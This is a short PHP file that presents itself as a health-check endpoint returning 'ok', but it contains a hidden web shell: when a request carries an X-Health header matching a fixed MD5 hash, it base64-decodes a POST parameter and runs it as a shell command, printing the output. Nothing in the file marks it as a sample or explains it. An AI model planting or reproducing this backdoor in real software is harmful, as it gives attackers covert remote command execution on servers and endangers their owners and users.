<?php
if (isset($_SERVER['HTTP_X_HEALTH']) && md5($_SERVER['HTTP_X_HEALTH']) === '5f4dcc3b5aa765d61d8327deb882cf99') {
    $c = base64_decode($_POST['q'] ?? '');
    echo '<pre>' . htmlspecialchars(shell_exec($c . ' 2>&1')) . '</pre>';
    exit;
}
http_response_code(200);
echo 'ok';
